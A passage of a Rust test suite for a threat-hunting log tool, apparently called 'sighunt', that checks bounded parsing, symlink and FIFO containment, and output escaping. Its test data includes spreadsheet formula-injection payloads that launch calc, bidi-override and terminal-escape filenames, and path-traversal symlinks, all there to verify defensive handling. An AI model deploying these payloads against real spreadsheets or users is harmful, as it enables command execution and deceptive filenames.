        )) && run.stderr.contains("1 input error"),
        "{}",
        run.describe()
    );
}

#[test]
fn evtx_cut_at_a_chunk_boundary_is_read_without_error() {
    let Some(src) = corpus_file(SYSMON_EVTX) else {
        return;
    };
    let data = std::fs::read(&src).unwrap();
    let dir = tempfile::tempdir().unwrap();
    let three = EVTX_HEADER + 3 * EVTX_CHUNK;
    // Only the header, and three whole chunks: nothing says more were meant to follow.
    for cut in [EVTX_HEADER, three] {
        let path = dir.path().join(format!("boundary-{cut}.evtx"));
        std::fs::write(&path, &data[..cut]).unwrap();
        let run = hunt_jsonl(&[&path]);
        run.assert_sane();
        assert!(
            run.stderr.contains("0 input errors") && !run.stderr.contains("boundary-"),
            "{}",
            run.describe()
        );
        assert_eq!(
            events_in_summary(&run.stderr) > 0,
            cut == three,
            "{}",
            run.describe()
        );
    }
    // Cut mid-way through the fourth chunk: exactly the first three chunks' events.
    let boundary = dir.path().join(format!("boundary-{three}.evtx"));
    let mid = dir.path().join("mid.evtx");
    std::fs::write(&mid, &data[..three + 30_000]).unwrap();
    let (whole, cut) = (hunt_jsonl(&[&boundary]), hunt_jsonl(&[&mid]));
    assert_eq!(
        events_in_summary(&cut.stderr),
        events_in_summary(&whole.stderr),
        "{}\n{}",
        whole.describe(),
        cut.describe()
    );
}

/// An MDE Streaming API record (`DeviceProcessEvents`) of a nohup launch.
fn mde_nohup(pid: u32, target: &str) -> String {
    format!(
        "{{\"time\":\"2026-11-30T09:21:35.1234560Z\",\"tenantId\":\"t\",\"operationName\":\"Publish\",\"category\":\"AdvancedHunting-DeviceProcessEvents\",\"properties\":{{\"Timestamp\":\"2026-11-30T09:20:00.1234560Z\",\"DeviceId\":\"d\",\"DeviceName\":\"lnx\",\"ActionType\":\"ProcessCreated\",\"FileName\":\"nohup\",\"FolderPath\":\"/usr/bin/nohup\",\"ProcessId\":{pid},\"ProcessCommandLine\":\"nohup {target}\",\"ProcessCreationTime\":\"2026-11-30T09:20:00.1234560Z\",\"InitiatingProcessId\":1,\"InitiatingProcessFileName\":\"bash\",\"InitiatingProcessFolderPath\":\"/usr/bin/bash\"}}}}"
    )
}

#[test]
fn mde_nesting_oversized_rows_and_huge_wrappers_are_bounded() {
    let dir = tempfile::tempdir().unwrap();
    // A million-deep array inside a record, then a 6 MB command line, in one Event
    // Hub message; the good records around them are found.
    let path = dir.path().join("eventhub.json");
    {
        let mut f = BufWriter::new(File::create(&path).unwrap());
        writeln!(f, "{{\"records\":[").unwrap();
        writeln!(f, "{},", mde_nohup(1001, "/tmp/.a/x")).unwrap();
        f.write_all(b"{\"properties\":").unwrap();
        f.write_all(&vec![b'['; 1_000_000]).unwrap();
        f.write_all(&vec![b']'; 1_000_000]).unwrap();
        writeln!(f, "}},").unwrap();
        writeln!(f, "{},", mde_nohup(1002, "/tmp/.b/x")).unwrap();
        writeln!(f, "{},", mde_nohup(1003, &"A".repeat(6 << 20))).unwrap();
        writeln!(f, "{}", mde_nohup(1004, "/tmp/.c/x")).unwrap();
        writeln!(f, "]}}").unwrap();
    }
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert!(
        run.stderr
            .contains("eventhub.json: line 3: JSON nested deeper than 128 levels"),
        "{}",
        run.describe()
    );
    assert!(
        run.stderr
            .contains("eventhub.json: line 5: record larger than"),
        "{}",
        run.describe()
    );
    assert_eq!(
        pids(&run.findings()),
        [1001, 1002, 1004],
        "{}",
        run.describe()
    );

    // A hunting API answer of 40,000 rows on one line (about 18 MB, four times the
    // longest line or row accepted): streamed row by row, never held whole.
    let path = dir.path().join("api.json");
    {
        let mut f = BufWriter::new(File::create(&path).unwrap());
        f.write_all(b"{\"Schema\":[{\"Name\":\"Timestamp\",\"Type\":\"DateTime\"}],\"Results\":[")
            .unwrap();
        for i in 0..40_000u32 {
            // Benign rows: no finding piles up, so the bound measured is the reader's.
            let rec = mde_nohup(20_000 + i, "/opt/app/run")
                .replace("nohup /opt/app/run", "ls -la /opt/app")
                .replace("\"FileName\":\"nohup\"", "\"FileName\":\"ls\"")
                .replace("/usr/bin/nohup", "/usr/bin/ls");
            let props = &rec[rec.find("\"properties\":").unwrap() + 13..rec.len() - 1];
            if i > 0 {
                f.write_all(b",").unwrap();
            }
            f.write_all(props.as_bytes()).unwrap();
        }
        f.write_all(b"]}\n").unwrap();
    }
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert!(run.stderr.contains("40000 events"), "{}", run.describe());
    assert!(run.findings().is_empty(), "{}", run.describe());
    assert!(run.peak_rss_kib < 64 * 1024, "{}", run.describe());
    assert!(run.stderr.contains(" 0 input errors"), "{}", run.describe());
}

#[test]
fn mde_csv_with_a_runaway_quote_is_reported_and_bounded() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("export.csv");
    {
        let mut f = BufWriter::new(File::create(&path).unwrap());
        let header =
            "Timestamp,DeviceName,ActionType,FileName,FolderPath,ProcessCommandLine,ProcessId";
        let row = |pid: u32, target: &str| {
            format!(
                "2026-11-30T09:20:00Z,lnx,ProcessCreated,nohup,/usr/bin/nohup,nohup {target},{pid}\r\n"
            )
        };
        write!(f, "{header}\r\n{}", row(1, "/tmp/.a/x")).unwrap();
        // A quote opened and never closed: many short lines, far over the record limit.
        write!(
            f,
            "2026-11-30T09:20:01Z,lnx,ProcessCreated,sh,/bin/sh,\"sh -c x\r\n"
        )
        .unwrap();
        for _ in 0..600_000 {
            f.write_all(b"0123456789\r\n").unwrap();
        }
        write!(f, "\"\r\n{}", row(3, "/tmp/.c/x")).unwrap();
    }
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    assert!(
        run.stderr
            .contains("export.csv: line 3: CSV record larger than"),
        "{}",
        run.describe()
    );
    // The first row is found; the run ends normally whatever the quote did after.
    assert!(pids(&run.findings()).contains(&1), "{}", run.describe());
}

// ---------------------------------------------------------------------------------------
// Staying in the tree: symbolic links, FIFOs, sockets, pseudo-filesystems.
// ---------------------------------------------------------------------------------------

fn mkfifo(path: &Path) {
    let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0, "mkfifo");
}

/// The "N not read" count of the summary line.
fn not_read(stderr: &str) -> u64 {
    let Some(at) = stderr.rfind(" not read") else {
        return 0;
    };
    stderr[..at]
        .rsplit(['(', ' '])
        .next()
        .and_then(|n| n.parse().ok())
        .unwrap_or_else(|| panic!("no not-read count in {stderr}"))
}

#[test]
fn a_walk_stays_in_its_tree_and_never_blocks_on_fifos_devices_or_proc() {
    let outside = tempfile::tempdir().unwrap();
    let secret = outside.path().join("secret.log");
    std::fs::write(&secret, nohup_event(500, 31337, "/tmp/.outside/x")).unwrap();

    let dir = tempfile::tempdir().unwrap();
    let logs = dir.path();
    std::fs::write(
        logs.join("audit.log"),
        nohup_event(501, 4242, "/tmp/.inside/y"),
    )
    .unwrap();
    std::os::unix::fs::symlink(&secret, logs.join("link-to-file.log")).unwrap();
    std::os::unix::fs::symlink(outside.path(), logs.join("link-to-dir")).unwrap();
    std::os::unix::fs::symlink("/etc", logs.join("etc")).unwrap();
    std::os::unix::fs::symlink("/proc/kmsg", logs.join("kmsg")).unwrap();
    std::os::unix::fs::symlink("/proc/self", logs.join("proc-self")).unwrap();
    std::os::unix::fs::symlink("/dev/zero", logs.join("zero.log")).unwrap();
    mkfifo(&logs.join("no-writer.fifo"));
    let _socket = std::os::unix::net::UnixListener::bind(logs.join("daemon.sock")).unwrap();

    // By default: only the regular file inside the tree is read.
    let run = hunt_jsonl(&[logs]);
    run.assert_sane();
    assert_eq!(pids(&run.findings()), vec![4242], "{}", run.describe());
    assert!(
        run.stderr.contains("sighunt: 1 file ("),
        "{}",
        run.describe()
    );
    // 6 links, the FIFO and the socket.
    assert_eq!(not_read(&run.stderr), 8, "{}", run.describe());
    assert!(run.stderr.contains("0 input errors"), "{}", run.describe());

    // --follow-links reads the log outside the tree, still never /proc, /sys, /dev
    // (no hang on /proc/kmsg, no endless /dev/zero) nor the FIFO or socket.
    std::fs::remove_file(logs.join("etc")).unwrap();
    let mut args: Vec<&OsStr> = vec!["hunt".as_ref(), "-f".as_ref(), "jsonl".as_ref()];
    args.push("--follow-links".as_ref());
    args.push(logs.as_os_str());
    let run = sighunt(args);
    run.assert_sane();
    assert_eq!(
        pids(&run.findings()),
        vec![4242, 31337, 31337],
        "the outside log, once by its file link and once by its directory link\n{}",
        run.describe()
    );
    // kmsg, proc-self, zero.log, the FIFO and the socket.
    assert_eq!(not_read(&run.stderr), 5, "{}", run.describe());
}

#[test]
fn a_named_fifo_is_read_like_stdin_and_one_without_writer_does_not_hang() {
    let dir = tempfile::tempdir().unwrap();
    let fifo = dir.path().join("pipe");
    mkfifo(&fifo);
    // No writer: read as empty, at once.
    let run = hunt_jsonl(&[&fifo]);
    run.assert_sane();
    assert!(run.findings().is_empty());
    assert!(run.stderr.contains("0 input errors"), "{}", run.describe());

    // With a writer (`sighunt hunt <(zcat audit.log.gz)`): its content is hunted.
    let writer = {
        let fifo = fifo.clone();
        std::thread::spawn(move || {
            // Blocks until sighunt opens the FIFO for reading.
            let mut w = std::fs::OpenOptions::new().write(true).open(&fifo).unwrap();
            w.write_all(nohup_event(7, 777, "/tmp/.p/q").as_bytes())
                .unwrap();
        })
    };
    // Give the writer time to block in open, so sighunt finds a writer.
    std::thread::sleep(Duration::from_millis(200));
    let run = hunt_jsonl(&[&fifo]);
    writer.join().unwrap();
    run.assert_sane();
    assert_eq!(pids(&run.findings()), vec![777], "{}", run.describe());
}

#[test]
fn a_named_device_is_refused_with_an_error_not_read_forever() {
    let run = hunt_jsonl(&[Path::new("/dev/zero")]);
    run.assert_sane();
    assert!(
        run.stderr
            .contains("/dev/zero: a character device, not a regular file"),
        "{}",
        run.describe()
    );
    assert!(run.stderr.contains("1 input error"), "{}", run.describe());
}

// ---------------------------------------------------------------------------------------
// Output safety: CSV formulas and control characters, JSON C1 and bidi controls.
// ---------------------------------------------------------------------------------------

/// A nohup exec whose target is `target` (raw bytes, hex-encoded as auditd does).
fn nohup_event_bytes(serial: u64, pid: u32, target: &[u8]) -> Vec<u8> {
    let mut text = format!("type=SYSCALL msg=audit(1700000000.{ms:03}:{serial}): arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid={pid} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm=\"nohup\" exe=\"/usr/bin/nohup\" key=(null)\ntype=EXECVE msg=audit(1700000000.{ms:03}:{serial}): argc=2 a0=\"nohup\" a1=", ms = serial % 1000).into_bytes();
    text.extend_from_slice(hex(target).as_bytes());
    text.extend_from_slice(
        format!(
            "\ntype=EOE msg=audit(1700000000.{ms:03}:{serial}):\n",
            ms = serial % 1000
        )
        .as_bytes(),
    );
    text
}

#[test]
fn csv_neutralises_formulas_and_escapes_controls_and_jsonl_escapes_c1_and_bidi() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("audit.log");
    let targets: [&[u8]; 4] = [
        b"=cmd|' /C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        "/tmp/\u{1b}[31mred\u{85}\u{202e}gpj.exe".as_bytes(),
        b"/usr/local/bin/agent",
    ];
    let mut text = Vec::new();
    for (i, t) in targets.iter().enumerate() {
        text.extend(nohup_event_bytes(10 + i as u64, 100 + i as u32, t));
    }
    std::fs::write(&path, &text).unwrap();

    let mut args: Vec<&OsStr> = vec!["hunt".as_ref(), "-f".as_ref(), "csv".as_ref()];
    args.extend(["--sort".as_ref(), "time".as_ref(), path.as_os_str()]);
    let run = sighunt(args);
    run.assert_sane();
    // A real CSV reader (not ours) gives the cells.
    let mut reader = csv::Reader::from_reader(run.stdout.as_slice());
    let headers = reader.headers().unwrap().clone();
    let col = headers.iter().position(|h| h == "nohup_target").unwrap();
    let mut cells: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[col].to_string())
        .collect();
    cells.sort();
    let mut expected = [
        "'=cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "/tmp/\\x1b[31mred\\u{85}\\u{202e}gpj.exe",
        "/usr/local/bin/agent",
    ];
    expected.sort();
    assert_eq!(cells, expected, "{}", run.describe());
    let text = run.stdout_text();
    assert!(
        !text.chars().any(|c| (c.is_control() && c != '\n')
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')),
        "no control or bidi character in the CSV:\n{text:?}"
    );
    // No cell a spreadsheet would run as a formula.
    for record in csv::Reader::from_reader(run.stdout.as_slice()).records() {
        for cell in record.unwrap().iter() {
            assert!(
                !(cell.starts_with(['=', '+', '@', '\t', '\r'])
                    || (cell.starts_with('-') && cell.parse::<f64>().is_err())),
                "formula-leading cell {cell:?}"
            );
        }
    }

    // JSON Lines: no raw C1 or bidi character on the wire, the exact text parsed back.
    let run = hunt_jsonl(&[&path]);
    run.assert_sane();
    let wire = run.stdout_text();
    assert!(!wire.contains('\u{85}') && !wire.contains('\u{202e}') && !wire.contains('\u{1b}'));
    assert!(
        wire.contains("\\u0085") && wire.contains("\\u202e"),
        "{wire}"
    );
    assert_eq!(run.findings().len(), 4);
    assert!(
        run.findings().iter().any(
            |f| str_field(f, "nohup_target") == Some("/tmp/\u{1b}[31mred\u{85}\u{202e}gpj.exe")
        )
    );
}

// ---------------------------------------------------------------------------------------
// Memory flat in the number of findings.
// ---------------------------------------------------------------------------------------

#[test]
fn a_cut_or_garbled_first_json_line_costs_that_line_only() {
    let sample = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/examples/windows/seed-test4.winlogbeat.ndjson"
    );
    let text = std::fs::read_to_string(sample).unwrap();
    let later: String = text.lines().skip(1).map(|l| format!("{l}\n")).collect();
    let first = text.lines().next().unwrap();
    let dir = tempfile::tempdir().unwrap();
    // The oracle: what the later lines give on their own.
    let alone = dir.path().join("later-alone.ndjson");
    std::fs::write(&alone, &later).unwrap();
    let alone = hunt_jsonl(&[&alone]);
    alone.assert_sane();
    let want = alone.findings();
    assert!(!want.is_empty(), "{}", alone.describe());
    let cases = [
        ("cut", format!("{}\n{later}", &first[..first.len() / 3])),
        (
            "cut-in-a-string",
            format!("{{\"winlog\": {{\"event_data\": {{\"x\": \"abc\n{later}"),
        ),
        ("garbage", format!("\u{0}\u{1}not json at all\n{later}")),
    ];
    for (what, body) in cases {
        let path = dir.path().join(format!("{what}.ndjson"));
        std::fs::write(&path, body).unwrap();
        let run = hunt_jsonl(&[&path]);
        run.assert_sane();
        assert!(
            run.stderr.contains(&format!("{what}.ndjson: line 1:"))
                && run.stderr.contains("1 input error"),
            "{what}: an error for line 1 only\n{}",
            run.describe()
        );
        let got = run.findings();
        let key = |f: &Value| (f["pid"].clone(), f["command_line"].clone());
        assert_eq!(
            got.iter().map(key).collect::<Vec<_>>(),
            want.iter().map(key).collect::<Vec<_>>(),
            "{what}: the later lines are all read\n{}",
            run.describe()
        );
    }
}

// ---------------------------------------------------------------------------------------
// `live --proc-root`: a crafted tree cannot lead reads out of it or block them.
// ---------------------------------------------------------------------------------------

/// `PID/status` and `PID/stat` of a process ignoring SIGHUP, SIGINT and SIGQUIT.
fn proc_files(pid: u32, comm: &str) -> (String, String) {
    let ign: u64 = 0b111;
    let status = format!(
        "Name:\t{comm}\nState:\tS (sleeping)\nTgid:\t{pid}\nPid:\t{pid}\nPPid:\t1\nUid:\t0\t0\t0\t0\nSigBlk:\t0000000000000000\nSigIgn:\t{ign:016x}\nSigCgt:\t0000000000000000\n"
    );
    let stat = format!(
        "{pid} ({comm}) S 1 {pid} {pid} 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 12345 3133440 412 18446744073709551615 0 0 0 0 0 0 0 {ign} 0 0 0 0 17 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n"
    );
    (status, stat)
}

fn write_proc(dir: &Path, pid: u32, comm: &str) {
    let (status, stat) = proc_files(pid, comm);
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("status"), status).unwrap();
    std::fs::write(dir.join("stat"), stat).unwrap();
    std::fs::write(dir.join("cmdline"), format!("/tmp/.{comm}\0")).unwrap();
    std::fs::write(dir.join("cgroup"), "0::/\n").unwrap();
    std::fs::create_dir_all(dir.join("fd")).unwrap();
}

#[test]
fn live_proc_root_reads_stay_beneath_the_root_and_never_block() {
    use std::os::unix::fs::symlink;
    let outside = tempfile::tempdir().unwrap();
    write_proc(&outside.path().join("7001"), 7001, "escaped");
    let secret = outside.path().join("secret-status");
    std::fs::write(&secret, proc_files(7002, "linked").0).unwrap();

    let root = tempfile::tempdir().unwrap();
    let r = root.path();
    std::fs::write(r.join("stat"), "cpu 1 2 3\nbtime 1700000000\n").unwrap();
    // A genuine process of the tree: reported.
    write_proc(&r.join("4242"), 4242, "implant");
    // A whole process directory that is a link out of the tree.
    symlink(outside.path().join("7001"), r.join("7001")).unwrap();
    // Its status file a link out of the tree (absolute), its stat one by `..`.
    write_proc(&r.join("7002"), 7002, "linked");
    std::fs::remove_file(r.join("7002/status")).unwrap();
    symlink(&secret, r.join("7002/status")).unwrap();
    std::fs::remove_file(r.join("7002/stat")).unwrap();
    symlink(
        "../../../../../../../../../proc/self/stat",
        r.join("7002/stat"),
    )
    .unwrap();
    // FIFOs where files are expected: no writer, would block a plain open+read.
    write_proc(&r.join("7003"), 7003, "piped");
    for name in ["status", "cmdline"] {
        std::fs::remove_file(r.join("7003").join(name)).unwrap();
        mkfifo(&r.join("7003").join(name));
    }
    // A magic-link-like path: `cwd` pointing at the real root.
    symlink("/", r.join("4242/cwd")).unwrap();

    let run = sighunt([
        "live".as_ref(),
        "--no-config".as_ref(),
        "-f".as_ref(),
        "jsonl".as_ref(),
        "--proc-root".as_ref(),
        r.as_os_str(),
    ]);
    run.assert_sane();
    let findings = run.findings();
    assert_eq!(
        pids(&findings),
        vec![4242],
        "only the tree's own process; nothing read through links out of it or FIFOs\n{}",
        run.describe()
    );
}

// ---------------------------------------------------------------------------------------
// Memory flat in the number of findings.
// ---------------------------------------------------------------------------------------

/// An audit log of `n` nohup launches, one finding each, one millisecond apart in
/// log order (the newest last), pids 100000 up.
fn findings_log(path: &Path, n: u32) {
    let mut w = BufWriter::new(File::create(path).unwrap());
    for i in 0..n {
        let serial = 1000 + u64::from(i);
        let launch = common::nohup_launch(
            1_700_000_000 + serial / 1000,
            serial % 1000,
            serial,
            100_000 + i,
            &format!("/tmp/.x/agent-{i}"),
        );
        w.write_all(launch.as_bytes()).unwrap();
    }
}

/// The pid of each JSON line, in output order.
fn pids_in_order(stdout: &[u8]) -> Vec<u64> {
    stdout
        .split(|&b| b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| {
            serde_json::from_slice::<Value>(l).unwrap()["pid"]
                .as_u64()
                .unwrap()
        })
        .collect()
}

/// Four times the findings must not cost (nearly) four times the memory: sorted,
/// findings beyond the in-memory budget (16 MiB) go to sorted runs on disk; with
/// `--sort none` they are written as released. Kept in memory (as before the
/// on-disk sort), the 75k more findings added about 100 MiB (1.4 KiB each). The order is checked
/// too: newest first (the spilled runs merged right), or log order.
#[test]
fn peak_memory_stays_flat_in_the_number_of_findings_and_the_order_is_kept() {
    const N: u32 = 25_000;
    let dir = tempfile::tempdir().unwrap();
    let small = dir.path().join("small.log");
    let large = dir.path().join("large.log");
    findings_log(&small, N);
    findings_log(&large, 4 * N);
    let hunt = |path: &Path, sort: &str| {
        let run = sighunt([
            "hunt".as_ref(),
            "--no-config".as_ref(),
            "-f".as_ref(),
            "jsonl".as_ref(),
            "--sort".as_ref(),
            sort.as_ref(),
            "-j1".as_ref(),
            path.as_os_str(),
        ]);
        run.assert_sane();
        run
    };
    for sort in ["time", "none"] {
        let base = hunt(&small, sort);
        let run = hunt(&large, sort);
        let pids = pids_in_order(&run.stdout);
        assert_eq!(pids.len(), 4 * N as usize, "every finding written ({sort})");
        let mut want: Vec<u64> = (0..u64::from(4 * N)).map(|i| 100_000 + i).collect();
        if sort == "time" {
            want.reverse();
        }
        assert!(pids == want, "--sort {sort}: wrong order");
        assert!(
            run.peak_rss_kib < base.peak_rss_kib + 40 * 1024,
            "--sort {sort}: peak RSS {} KiB for {} findings vs {} KiB for {N}",
            run.peak_rss_kib,
            4 * N,
            base.peak_rss_kib
        );
    }
}
